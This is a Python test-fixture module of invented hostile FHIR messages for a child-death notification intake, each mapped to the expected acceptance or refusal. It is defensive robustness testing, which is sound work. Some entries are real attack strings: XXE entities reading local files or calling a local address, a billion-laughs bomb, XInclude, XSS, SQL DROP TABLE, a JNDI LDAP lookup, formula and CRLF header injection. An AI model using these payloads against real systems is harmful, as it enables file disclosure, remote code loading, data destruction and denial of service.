"""What a broken or hostile system may send as FHIR, by name, each with what has to become of it by every way in.

Everything is invented.
"""

import json
from collections.abc import Mapping
from typing import Any

from tests.fhir_samples import ODS, as_xml, bundle, dead, header, patient, status
from tests.hostile_sample import Hostile, Invented, made

JSON, XML = "application/fhir+json", "application/fhir+xml"
SENDER = "RTH"
_MUCH = 200_000
# By these ways a message says of what type it is.
_TYPED = frozenset({"http", "queue"})


def child(serial: int, **parts: Any) -> dict[str, Any]:
    """A dead girl of her own."""
    who = Invented(serial)
    own: dict[str, Any] = {
        "id": f"p{serial}",
        "identifier": [{"system": "https://fhir.nhs.uk/Id/nhs-number", "value": who.number}],
        "name": [{"family": who.surname, "given": [who.given]}],
        "birthDate": who.born,
        "address": [{"use": "home", "line": [f"{serial} Reed Lane"], "postalCode": who.postcode}],
    }
    return dead(**(own | parts))


def _json(**parts: Any) -> Any:
    return lambda serial: json.dumps(child(serial, **parts)).encode()


def _text(old: str, new: str) -> Any:
    """A good Patient with a piece of its text replaced."""
    return lambda serial: json.dumps(child(serial)).replace(old, new, 1).encode()


def _named(name: str) -> Any:
    return lambda serial: json.dumps(child(serial, name=[{"family": name, "given": [Invented(serial).given]}])).encode()


def _xml(**parts: Any) -> Any:
    return lambda serial: as_xml(child(serial, **parts))


def _within(before: bytes, old: bytes = b"", new: bytes = b"") -> Any:
    """A good Patient in XML with something before it, and a piece of it replaced."""
    return lambda serial: before + as_xml(child(serial)).replace(old, new, 1)


def _message(serial: int, sender: str = SENDER, **parts: Any) -> bytes:
    about = {"focus": [{"reference": f"Patient/p{serial}"}], "sender": {"identifier": {"system": ODS, "value": sender}}}
    return json.dumps(bundle(header(**(about | parts)), child(serial), type_="message")).encode()


def _bundle(*resources: Any, **parts: Any) -> Any:
    return lambda serial: json.dumps(bundle(child(serial), *resources, **parts)).encode()


def _taken(body: Any, form: str = JSON) -> Hostile:
    return Hostile(made(body), form, "taken")


def _passed(body: Any, form: str = JSON) -> Hostile:
    return Hostile(made(body), form, "passed-over")


def _never(body: Any, form: str = JSON) -> Hostile:
    return Hostile(made(body), form, "refused", 415)


def _broken(body: Any, form: str = JSON) -> Hostile:
    return Hostile(made(body), form, "refused", 400)


def _wrong(body: Any, form: str = JSON) -> Hostile:
    return Hostile(made(body), form, "refused", 422)


_SYNTAX: Mapping[str, Hostile] = {
    "nothing": _broken(b""),
    "white space": _broken(b" \r\n\t"),
    "words": _never(b"the child has died"),
    "null": _broken(b"null"),
    "a number": _broken(b"1"),
    "a list": _broken(b"[]"),
    "half a message": _broken(lambda serial: _message(serial)[:-40]),
    "a comma too many": _broken(_text('"gender": "female",', '"gender": "female",,')),
    "a name twice": _broken(_text('"gender": "female",', '"gender": "female", "gender": "male",')),
    "no number": _broken(_text('"gender": "female"', '"gender": NaN')),
    "a number without end": _broken(_text('"gender": "female"', '"gender": ' + "1" * 5000)),
    "half a character": _broken(_text('"family": "', '"family": "\\ud800')),
    "a zero in a name": _wrong(_text('"family": "', '"family": "\\u0000')),
    "bytes that are no text": _broken(lambda serial: json.dumps(child(serial)).encode().replace(b"quill", b"\xff\xfe\xc0")),
    "brackets without end": _broken(b'{"resourceType": "Patient", "name": ' + b"[" * 100_000),
    "objects without end": _broken(b'{"a":' * 5000 + b"1" + b"}" * 5000),
    "compressed": _never(b"\x1f\x8b\x08\x00\x00\x00\x00\x00"),
    "more than a message may hold": Hostile(
        lambda serial: json.dumps(child(serial, language="x" * 8_500_000)).encode(),
        JSON, "refused", 413, frozenset({"http", "mesh", "folder"}),
    ),
}  # fmt: skip

_XML_SYNTAX: Mapping[str, Hostile] = {
    "XML that is cut": _broken(lambda serial: as_xml(child(serial))[:-20], XML),
    "a document type": _broken(_within(b"<!DOCTYPE Patient>"), XML),
    "a file for an entity": _broken(
        _within(b'<!DOCTYPE p [<!ENTITY x SYSTEM "file:///etc/hostname">]>', b"quill", b"&x;"), XML
    ),
    "an address for an entity": _broken(
        _within(b'<!DOCTYPE p [<!ENTITY % x SYSTEM "http://127.0.0.1:9/"> %x;]>'), XML
    ),
    "a billion laughs": _broken(
        _within(
            b'<!DOCTYPE p [<!ENTITY a "ha">'
            + b"".join(b'<!ENTITY a%d "%s">' % (n, b"&a%s;" % (b"%d" % (n - 1) if n else b"") * 10) for n in range(9))
            + b"]>",
            b"quill",
            b"&a8;",
        ),
        XML,
    ),
    "an inclusion": _wrong(
        _within(
            b"", b"<gender",
            b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/hostname" parse="text"/><gender',
        ),
        XML,
    ),
    "an instruction": _taken(_within(b'<?xml-stylesheet href="http://x.invalid/a.xsl"?>'), XML),
    "a lie about its bytes": _broken(_within(b'<?xml version="1.0" encoding="UTF-16"?>'), XML),
    "an encoding that nobody knows": _broken(_within(b'<?xml version="1.0" encoding="KLINGON"?>'), XML),
    "another namespace": _wrong(_within(b"", b"http://hl7.org/fhir", b"urn:hl7-org:v3"), XML),
    "elements without end": _broken(b"<Patient>" * 50_000, XML),
    "JSON for XML": Hostile(_json(), XML, "refused", 400, _TYPED),
    "XML for JSON": Hostile(_xml(), JSON, "refused", 400, _TYPED),
}  # fmt: skip

_CONTENT: Mapping[str, Hostile] = {
    "a scanned form": Hostile(made(b"%PDF-1.4"), "application/pdf", "refused", 415),
    "no type": Hostile(made(_json()), "", "refused", 415, frozenset({"http"})),
    "a resource that there isn't": _wrong(_text('"Patient"', '"Corpse"')),
    "dead and alive": _wrong(_json(deceasedBoolean=False)),
    "an element that there isn't": _wrong(_json(colour="red")),
    "a modifier that nobody knows": _wrong(_json(modifierExtension=[{"url": "urn:x", "valueBoolean": True}])),
    "rules of its own": _wrong(_json(implicitRules="http://example.org/rules")),
    "an empty message": _wrong(b'{"resourceType": "Bundle", "type": "message"}'),
    "a message about nobody": _wrong(lambda serial: _message(serial, focus=[{"reference": "Patient/x"}])),
    "an order to delete": _wrong(
        lambda serial: json.dumps(
            bundle(type_="transaction")
            | {"entry": [{"resource": child(serial), "request": {"method": "DELETE", "url": f"Patient/p{serial}"}}]}
        ).encode()
    ),
    "a death to come": _wrong(_json(deceasedDateTime="2126-03-09")),
    "a day that is none": _wrong(_json(deceasedDateTime="2026-02-30")),
    "a death as text": _taken(_json(deceasedDateTime=None, deceasedBoolean="true")),
    "a gender from another table": _taken(_json(gender="F")),
    "a time without a zone": _taken(_json(deceasedDateTime="2026-03-09T04:10:00")),
    "no birth date": _taken(_json(birthDate=None)),
    "a national death that is no more": _passed(
        lambda serial: json.dumps(patient(id=f"p{serial}", extension=status("U"), birthDate="1950-01-01")).encode()
    ),
    "somebody alive": _passed(_json(deceasedDateTime=None)),
    "an adult": _passed(_json(birthDate="1950-01-01")),
    "another hospital's message": Hostile(lambda serial: _message(serial, "RXH"), JSON, "refused", 403),
}  # fmt: skip

_NAMES: Mapping[str, Hostile] = {
    "a name that is a program": _taken(_named("<script>alert(1)</script>")),
    "a name that is a statement": _taken(_named("'); DROP TABLE notice;--")),
    "a name that is a lookup": _taken(_named("${jndi:ldap://192.0.2.1/a}")),
    "a name that is a formula": _taken(_named("=HYPERLINK(1)")),
    "a name that breaks lines": _taken(_named("A\r\nX-Injected: 1\r\n\r\nB")),
    "a name that turns the text around": _taken(_named("\u202eneRW\u2066")),
    "a name of many letters": _taken(_named("A" * _MUCH)),
    "many names": _taken(_json(name=[{"family": f"A{each}"} for each in range(5000)])),
    "many people": _taken(_bundle(*[patient(id=f"q{each}", identifier=None) for each in range(2000)])),
    "somebody inside somebody inside": _taken(
        _json(contained=[{"resourceType": "Patient", "id": "c", "contained": [{}]}])
    ),
}

HOSTILE: Mapping[str, Hostile] = {**_SYNTAX, **_XML_SYNTAX, **_CONTENT, **_NAMES}
